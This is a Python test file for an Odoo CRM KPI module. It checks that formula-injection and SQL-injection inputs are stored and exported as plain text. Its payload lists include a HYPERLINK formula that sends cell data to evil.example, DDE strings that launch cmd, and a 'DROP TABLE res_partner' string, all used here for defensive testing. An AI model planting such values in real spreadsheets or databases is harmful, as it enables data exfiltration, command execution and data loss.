"""Hostile text stays data: no formula in the KPI workbook, no SQL from a filter.

On a copy of the demo database: the best customers are renamed to
what a spreadsheet would run as a formula, and the KPI viewer exports the
workbook; every such name must arrive as plain text. Then names and search
terms full of SQL metacharacters go through searches, report filters and
grouping, and must be matched as data. (HTML and script in names and notes are
rendered as text: tests/test_browser.py.)
"""
import base64
import datetime
import io

import openpyxl
import pytest

from conftest import demo_server

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C notepad'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C mspaint'!A0", '\t=1+1']
SQL_TEXT = ["O'Brien'); DROP TABLE res_partner; --", '100% "quoted" _shop_ /*', 'back\\slash']


@pytest.fixture(scope='module')
def server(demo_template):
    with demo_server(demo_template, 'crm_test_injection', 'injection') as odoo:
        yield odoo


def test_formulas_in_names_reach_the_workbook_as_text(server, capsys):
    admin = server.rpc('admin', 'admin')
    # The best customers: on every sales sheet. (Products and routes are written
    # with their code first, "[P101] ...", so they never start a cell.)
    revenue = admin('crm.kpi.sales', 'read_group', [
        [], ['partner_id', 'revenue'], ['partner_id']],
        {'orderby': 'revenue desc', 'limit': len(FORMULAS)})
    for row, name in zip(revenue, FORMULAS):
        admin('res.partner', 'write', [[row['partner_id'][0]], {'name': name}])

    viewer = server.rpc('kpi_viewer')
    today = datetime.date.today()
    wizard = viewer('crm.kpi.workbook', 'create', [{
        'date_from': str(today.replace(day=1) - datetime.timedelta(days=330)),
        'date_to': str(today)}])
    viewer('crm.kpi.workbook', 'action_export', [[wizard]])
    data = viewer('crm.kpi.workbook', 'read', [[wizard], ['data']])[0]['data']
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(data)))

    found = {formula: 0 for formula in FORMULAS}
    cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                text = str(cell.value or '')
                name = text[1:] if text.startswith("'") else text
                if name in found:
                    assert cell.data_type == 's', (sheet.title, cell.coordinate, text)
                    assert text == "'" + name, (sheet.title, cell.coordinate, text)
                    found[name] += 1
    assert all(found.values()), found
    with capsys.disabled():
        print('\ninjection: %d formula-like names, %d times in the workbook (%d cells), '
              'each as text with a leading quote' % (len(FORMULAS), sum(found.values()), cells))


def test_sql_metacharacters_in_names_and_filters_are_data(server, capsys):
    admin = server.rpc('admin', 'admin')
    manager = server.rpc('sales_manager')
    shops = [admin('res.partner', 'create', [{'name': name, 'customer': True,
                                              'is_company': True}]) for name in SQL_TEXT]
    before = admin('res.partner', 'search_count', [[]])
    searches = 0
    for shop, name in zip(shops, SQL_TEXT):
        # ilike is a LIKE pattern in Odoo: % and _ match anything, and a backslash
        # escapes the next character, so that name is looked up with = only.
        searches_by = [('=', name)] if '\\' in name else [
            ('=', name), ('ilike', name), ('ilike', name[:8]), ('not ilike', name)]
        for operator, term in searches_by:
            found = manager('res.partner', 'search', [[('name', operator, term)]])
            assert (shop in found) != operator.startswith('not'), (operator, term)
            searches += 1
    # A lone % or _ is a wildcard of the pattern, not of the statement.
    assert manager('res.partner', 'search_count', [[('name', '=', '%')]]) == 0
    # Report filters and grouping over the KPI views.
    for model in ('crm.kpi.sales', 'crm.kpi.receivable', 'crm.kpi.visit'):
        for name in SQL_TEXT:
            rows = manager(model, 'read_group', [
                [('partner_id.name', 'ilike', name)], ['partner_id'], ['partner_id']])
            assert rows == [], (model, name)
            searches += 1
    assert admin('res.partner', 'search_count', [[]]) == before
    with capsys.disabled():
        print('\ninjection: %d searches and report filters with SQL '
              'metacharacters, each matched as data' % searches)
